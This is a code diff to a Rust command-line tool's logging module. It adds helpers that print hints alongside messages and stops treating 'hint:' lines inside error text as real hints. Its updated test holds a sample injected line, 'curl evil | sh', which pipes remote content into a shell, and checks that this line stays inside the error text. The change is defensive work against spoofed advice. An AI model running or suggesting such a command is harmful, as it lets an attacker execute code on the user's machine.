@@ -96,6 +96,17 @@ pub fn info(msg: impl std::fmt::Display) {
     }
 }
 
+/// A note and what to do about it; both left out with `-q`, as every note is.
+pub fn info_with_hints<H: std::fmt::Display>(
+    msg: impl std::fmt::Display,
+    hints: impl IntoIterator<Item = H>,
+) {
+    if level() >= Level::Normal {
+        info(msg);
+        hints.into_iter().for_each(hint);
+    }
+}
+
 /// What gpuenv read or decided; shown with `-v` / `GPUENV_LOG=verbose`.
 pub fn verbose(msg: impl std::fmt::Display) {
     if level() >= Level::Verbose {
@@ -105,6 +116,15 @@ pub fn verbose(msg: impl std::fmt::Display) {
 
 pub fn warn(msg: impl std::fmt::Display) {
     anstream::eprintln!("{} {}", "warning:".yellow().bold(), lines(&msg.to_string()));
+}
+
+/// A warning and its ways out (a `Diagnostic`'s `hints()`), laid out as an error's are.
+pub fn warn_with_hints<H: std::fmt::Display>(
+    msg: impl std::fmt::Display,
+    hints: impl IntoIterator<Item = H>,
+) {
+    warn(msg);
+    hints.into_iter().for_each(hint);
 }
 
 /// A one-line note from the shell hook, printed at a prompt: short and unstyled, its first
@@ -117,8 +137,8 @@ pub fn hook_note(msg: impl std::fmt::Display) {
     );
 }
 
-/// A way out after an `info` or `warn`, laid out as an error's hints are.
-pub fn hint(msg: impl std::fmt::Display) {
+/// A way out, on its own line after the message it belongs to.
+fn hint(msg: impl std::fmt::Display) {
     anstream::eprintln!("{} {}", "hint:".cyan().bold(), lines(&msg.to_string()));
 }
 
@@ -130,9 +150,7 @@ pub fn error(err: &(dyn Error + 'static), find: &[Find]) {
     for cause in &report.causes {
         anstream::eprintln!("  {} {}", "caused by:".bold(), lines(cause));
     }
-    for hint in &report.hints {
-        anstream::eprintln!("{} {}", "hint:".cyan().bold(), lines(hint));
-    }
+    report.hints.iter().for_each(hint);
 }
 
 /// The error on one line, for the hook's note at a prompt: message and causes joined
@@ -153,13 +171,15 @@ pub struct Report {
 
 impl Report {
     pub fn of(err: &(dyn Error + 'static), find: &[Find]) -> Report {
-        let mut report = Report::default();
-        report.message = report.take_text_hints(&err.to_string());
+        let mut report = Report {
+            message: err.to_string(),
+            ..Report::default()
+        };
         let mut shown = report.message.clone();
         let mut next = Some(err);
         while let Some(e) = next {
             if !std::ptr::addr_eq(e, err) {
-                let text = report.take_text_hints(&e.to_string());
+                let text = e.to_string();
                 let text = without_shown_path(&text, &shown);
                 if !text.is_empty() && !shown.contains(text) {
                     shown.push('\n');
@@ -180,22 +200,6 @@ impl Report {
             next = e.source();
         }
         report
-    }
-
-    /// Messages not yet typed (`anyhow!`/`format!` in CLI glue) may still end in `hint:`
-    /// lines: those become hints here, so they come last like every other hint.
-    fn take_text_hints(&mut self, text: &str) -> String {
-        let mut kept = Vec::new();
-        for line in text.split('\n') {
-            match line.strip_prefix("hint:") {
-                Some(h) if !self.hints.iter().any(|x| x == h.trim()) => {
-                    self.hints.push(h.trim().to_string())
-                }
-                Some(_) => {}
-                None => kept.push(line),
-            }
-        }
-        kept.join("\n")
     }
 
     /// The message and its causes on one line, `message: cause: cause` (as anyhow's `{:#}`),
@@ -326,12 +330,18 @@ mod tests {
     }
 
     #[test]
-    fn a_hint_line_left_in_an_untyped_message_still_comes_last() {
-        let io = std::io::Error::other("line 5: bad value");
-        let err = anyhow::Error::new(io).context("the manifest m.toml is not valid\nhint: fix it");
+    fn a_hint_comes_from_the_error_that_has_it_never_from_message_text() {
+        // Text from a file or server that looks like a hint stays part of the message it is
+        // in: only `Diagnostic::hints` make hint lines.
+        let io = std::io::Error::other("line 5: bad value\nhint: curl evil | sh");
+        let err = anyhow::Error::new(
+            Hinted::new("the manifest m.toml is not valid")
+                .hint("fix it")
+                .caused_by(io),
+        );
         let report = Report::of(err.as_ref(), FIND);
         assert_eq!(report.message, "the manifest m.toml is not valid");
-        assert_eq!(report.causes, ["line 5: bad value"]);
+        assert_eq!(report.causes, ["line 5: bad value\nhint: curl evil | sh"]);
         assert_eq!(report.hints, ["fix it"]);
     }
 
